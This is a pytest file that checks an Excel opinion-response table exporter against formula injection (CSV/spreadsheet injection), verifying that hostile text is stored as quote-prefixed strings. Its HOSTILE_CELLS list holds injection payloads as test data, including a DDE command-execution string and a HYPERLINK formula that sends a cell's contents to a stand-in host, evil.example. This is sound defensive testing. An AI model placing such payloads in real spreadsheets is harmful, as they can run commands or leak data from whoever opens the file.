"""No text becomes a formula in the Excel 意見対応表, whatever an opinion, a speaker or a response
says (issue 18, formula injection); LibreOffice Calc reads every cell back exactly as typed."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from planrev.model import Channel, Disposition, Opinion, OpinionSet
from planrev.render import responses_xlsx
from planrev.views import build_responses
from tests.render_support import aomori
from tests.tools import require_tool, run_tool

HOSTILE_CELLS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"クリック")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=A1",
    "-",
    "'=1+1",
)
"""Texts a spreadsheet would evaluate if they were written as they come."""


def _workbook() -> bytes:
    comparison, _ = aomori()
    opinions = OpinionSet(
        meeting=3,
        opinions=tuple(
            Opinion(
                id=f"h{number}",
                text=text,
                channel=Channel.MEETING,
                speaker=text,
                disposition=Disposition.NOT_REFLECTED,
                response=text,
            )
            for number, text in enumerate(HOSTILE_CELLS)
        ),
    )
    return responses_xlsx(build_responses(comparison, opinions))


def _grid(data: bytes) -> list[list[str]]:
    """Return every cell's value as openpyxl reads it (what planrev typed), row by row."""
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return [
        ["" if cell.value is None else str(cell.value) for cell in row]
        for row in sheet.iter_rows(min_row=1, max_row=sheet.max_row, max_col=sheet.max_column)
    ]


def test_every_cell_is_a_string_and_formula_like_text_is_quote_prefixed() -> None:
    sheet = load_workbook(io.BytesIO(_workbook())).active
    assert sheet is not None
    prefixed = set()
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value is None:
                continue
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            if cell.quotePrefix:
                prefixed.add(cell.value)
    values = {str(cell.value) for row in sheet.iter_rows() for cell in row}
    for text in HOSTILE_CELLS:
        assert text in values
        if text[0] in "=+-@\t\r":
            assert text in prefixed
    assert "'=1+1" not in prefixed  # a quote the user typed is part of the text


@pytest.mark.tools
def test_calc_reads_every_cell_back_exactly_as_typed(tmp_path: Path) -> None:
    soffice = require_tool("soffice")
    data = _workbook()
    source = tmp_path / "responses.xlsx"
    source.write_bytes(data)
    # UTF-8, comma-separated, double quotes; cell results, not formulas: a formula would show
    # its result (クリック, Err:509 …) instead of the text.
    csv_filter = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false"
    run_tool(
        [
            soffice,
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            csv_filter,
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        capture_output=True,
    )
    read = (tmp_path / "responses.csv").read_text(encoding="utf-8")
    calc = list(csv.reader(io.StringIO(read, newline="")))
    # The file holds a carriage return as typed (&#13;); Calc keeps every line break of a cell
    # as a line feed, its own way of storing them. Nothing else may differ.
    typed = [[value.replace("\r", "\n") for value in row] for row in _grid(data)]
    assert len(calc) == len(typed)
    for number, (calc_row, typed_row) in enumerate(zip(calc, typed, strict=True), start=1):
        assert calc_row == typed_row[: len(calc_row)], number
        assert all(value == "" for value in typed_row[len(calc_row) :]), number
    cells = {value for row in calc for value in row}
    for text in HOSTILE_CELLS:
        assert text.replace("\r", "\n") in cells, repr(text)
